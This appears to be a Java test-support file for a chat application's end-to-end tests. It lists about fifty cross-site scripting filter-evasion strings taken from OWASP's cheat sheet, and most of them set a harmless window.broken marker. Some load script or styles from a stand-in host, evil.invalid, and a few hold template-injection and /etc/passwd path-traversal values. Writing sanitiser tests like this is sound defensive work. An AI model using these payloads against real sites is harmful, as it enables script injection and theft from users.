package chat.parley.e2e.support;

import java.util.List;

/**
 * Texts that become script in a page that takes them for markup, one or more of each kind in
 * OWASP's cheat sheet on getting past filters. Each sets {@code window.broken}, or asks for another
 * host.
 */
public final class HostileTexts {
  private static final String ALL =
      """
      <script>window.broken=1</script>
      <SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>
      <scr<script>ipt>window.broken=1</scr</script>ipt>
      <script/src=data:text/javascript,window.broken=1></script>
      <script>/*<![CDATA[*/window.broken=1/*]]>*/</script>
      "><script>window.broken=1</script>
      '"--></style></script></title></textarea><script>window.broken=1</script>
      </p></li></ol><script>window.broken=1</script>
      <img src=x onerror="window.broken=1">
      <img src=x onerror=&#119;indow.broken=1>
      <IMG SRC=javascript:window.broken=1>
      <img src="jav&#x09;ascript:window.broken=1;">
      <img/src=`x`onerror=window.broken=1>
      <img src=x:x onerror\t=window.broken=1//
      <svg onload=window.broken=1>
      <svg><script>window&#46;broken=1</script></svg>
      <svg><animate onbegin=window.broken=1 attributeName=x dur=1s>
      <svg><a xlink:href="javascript:window.broken=1"><text y=1>x</text></a></svg>
      <math><mtext></form><form><mglyph><style></math><img src onerror=window.broken=1>
      <body onload=window.broken=1>
      <iframe src="javascript:parent.broken=1"></iframe>
      <iframe srcdoc="<script>parent.broken=1</script>"></iframe>
      <object data="javascript:window.broken=1"></object>
      <embed src="data:image/svg+xml,<svg onload=window.broken=1>">
      <link rel=stylesheet href=https://evil.invalid/x.css>
      <style>@import'https://evil.invalid/x.css';</style>
      <div style="background:url(javascript:window.broken=1)">
      <meta http-equiv="refresh" content="0;url=javascript:window.broken=1">
      <base href="https://evil.invalid/">
      <form action="javascript:window.broken=1"><button autofocus onfocus=window.broken=1>x</form>
      <input autofocus onfocus=window.broken=1>
      <details open ontoggle=window.broken=1>x</details>
      <video><source onerror="window.broken=1"></video>
      <audio src=x onerror=window.broken=1>
      <marquee onstart=window.broken=1>x</marquee>
      <a href="javascript:window.broken=1">click</a>
      javascript:window.broken=1
      https://evil.invalid/"onmouseover="window.broken=1
      http://x/'onclick='window.broken=1
      data:text/html,<script>window.broken=1</script>
      ${window.broken=1} {{constructor.constructor('window.broken=1')()}} #{window.broken=1}
      &lt;script&gt;window.broken=1&lt;/script&gt;
      \\u003cscript\\u003ewindow.broken=1\\u003c/script\\u003e
      %3Cscript%3Ewindow.broken=1%3C/script%3E
      <template><script>window.broken=1</script></template><x onclick=window.broken=1>
      {"__html":"<img src=x onerror=window.broken=1>"}
      __proto__ constructor toString
      ../../../../etc/passwd<img src=x onerror=window.broken=1>.png
      \u202e<img src=x onerror=window.broken=1>\u202c
      """;

  private HostileTexts() {}

  /** One line each. */
  public static List<String> all() {
    return ALL.lines().toList();
  }
}
